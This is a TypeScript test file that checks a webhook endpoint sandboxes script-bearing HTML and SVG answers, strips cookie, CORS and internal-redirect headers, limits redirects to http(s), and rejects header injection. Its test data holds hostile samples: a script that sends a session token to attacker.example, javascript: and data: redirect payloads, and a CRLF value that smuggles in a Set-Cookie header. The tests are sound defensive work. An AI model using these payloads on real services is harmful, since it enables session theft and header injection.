import { WebhookDelivery } from '../../db/entities';
import { createApiHarness, type ApiHarness, type TestAccount } from '../../test/api-harness';
import { waitFor } from '../../test/wait-for';
import { echoGraph, publishGraph } from '../../test/webhook-fixture';

/**
 * What the outside probe did: a hook anyone may call (no auth, GET, sync) whose End node answers HTML with a script,
 * cookies, CORS and redirects. None of it may act as the service's origin, which the canvas shares.
 */
let api: ApiHarness;
let owner: TestAccount;

beforeAll(async () => {
  api = await createApiHarness();
  owner = await api.signUp('answers');
}, 120_000);
afterAll(async () => {
  await api?.close();
});

const openHook = { authMode: 'none', allowedMethods: ['GET'], responseMode: 'sync' };

async function publish(end: Record<string, unknown>, config: Record<string, unknown> = {}): Promise<string> {
  const published = await publishGraph(api.services, owner, echoGraph({ ...openHook, ...config }, end));
  return published.hooks.hook.id;
}

async function visit(hookId: string, query = ''): Promise<Response> {
  return fetch(`${api.url}/api/webhooks/${hookId}${query}`, { redirect: 'manual' });
}

/** The row of the hook's one delivery, once the answer has gone out and it is written. */
async function deliveryOf(hookId: string): Promise<WebhookDelivery> {
  let row: WebhookDelivery | null = null;
  await waitFor('the delivery row', async () => {
    row = await api.services.orm.em.fork().findOne(WebhookDelivery, { webhook: hookId });
    return row !== null;
  });
  return row!;
}

function expectSandboxed(answer: Response): void {
  expect(answer.headers.get('content-security-policy')).toBe('sandbox');
  expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
}

test("an End node's HTML with a script is served sandboxed, and its cookie and CORS headers are dropped", async () => {
  const hookId = await publish({
    value: '<html><body><script>fetch("https://attacker.example/?s=" + localStorage.getItem("kai.session"))</script></body></html>',
    response: {
      status: 200,
      headers: {
        'content-type': 'text/html',
        'set-cookie': 'session=stolen; Path=/',
        'access-control-allow-origin': '*',
        'content-security-policy': "default-src *; script-src 'unsafe-inline'",
        'x-content-type-options': 'sniff',
        'x-accel-redirect': '/internal/secrets',
        'x-answered-by': 'end',
        'cache-control': 'no-store',
      },
    },
  });
  const answer = await visit(hookId);
  expect(answer.status).toBe(200);
  expect(await answer.text()).toContain('<script>');
  expect(answer.headers.get('content-type')).toMatch(/^text\/html/);
  expectSandboxed(answer);
  expect(answer.headers.get('set-cookie')).toBeNull();
  expect(answer.headers.get('access-control-allow-origin')).toBeNull();
  expect(answer.headers.get('x-accel-redirect')).toBeNull();
  expect(answer.headers.get('x-answered-by')).toBe('end');
  expect(answer.headers.get('cache-control')).toBe('no-store');

  const delivery = await deliveryOf(hookId);
  expect(delivery.status).toBe(200);
  for (const refused of ['set-cookie', 'access-control-allow-origin', 'content-security-policy', 'x-content-type-options', 'x-accel-redirect']) {
    expect(delivery.error).toContain(refused);
  }
});

test('SVG with a script is sandboxed too', async () => {
  const hookId = await publish({
    value: '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>',
    response: { headers: { 'content-type': 'image/svg+xml' } },
  });
  const answer = await visit(hookId);
  expect(answer.headers.get('content-type')).toMatch(/^image\/svg\+xml/);
  expectSandboxed(answer);
});

test('a redirect is answered 200 without its Location unless the hook allows redirects', async () => {
  const hookId = await publish({ value: '', response: { status: 302, headers: { location: 'https://attacker.example/login' } } });
  const answer = await visit(hookId);
  expect(answer.status).toBe(200);
  expect(answer.headers.get('location')).toBeNull();
  expectSandboxed(answer);
  expect((await deliveryOf(hookId)).error).toMatch(/status 302 .*allowRedirects is off/);
});

test('a hook that allows redirects sends a 3xx to an http(s) Location, never to another scheme', async () => {
  const redirecting = await publish({ value: '', response: { status: 302, headers: { location: '{{ input.query.to }}' } } }, { allowRedirects: true });
  const allowed = await visit(redirecting, `?to=${encodeURIComponent('https://example.com/next')}`);
  expect(allowed.status).toBe(302);
  expect(allowed.headers.get('location')).toBe('https://example.com/next');
  expectSandboxed(allowed);

  for (const target of ['javascript:alert(document.cookie)', 'data:text/html,<script>alert(1)</script>', '/api/v1/auth/me', '//attacker.example/']) {
    const refused = await visit(redirecting, `?to=${encodeURIComponent(target)}`);
    expect({ target, status: refused.status, location: refused.headers.get('location') }).toEqual({ target, status: 200, location: null });
  }
});

test('a header value with a line break from a template is dropped, not a failed answer or an injected header', async () => {
  const hookId = await publish({ value: 'hi', response: { headers: { 'content-type': 'text/plain', 'x-name': '{{ input.query.name }}' } } });
  const answer = await visit(hookId, `?name=${encodeURIComponent('Ada\r\nSet-Cookie: session=stolen')}`);
  expect(answer.status).toBe(200);
  expect(await answer.text()).toBe('hi');
  expect(answer.headers.get('x-name')).toBeNull();
  expect(answer.headers.get('set-cookie')).toBeNull();
  expect((await deliveryOf(hookId)).error).toContain('x-name (not a valid header)');
});

test('refusals, 202s and errors of the endpoint carry the sandbox and nosniff headers too', async () => {
  expectSandboxed(await visit(`wh_${'x'.repeat(43)}`));
  const asyncHook = await publish({}, { responseMode: 'async' });
  const accepted = await visit(asyncHook);
  expect(accepted.status).toBe(202);
  expectSandboxed(accepted);
  const wrongMethod = await fetch(`${api.url}/api/webhooks/${asyncHook}`, { method: 'DELETE' });
  expect(wrongMethod.status).toBe(405);
  expectSandboxed(wrongMethod);
});
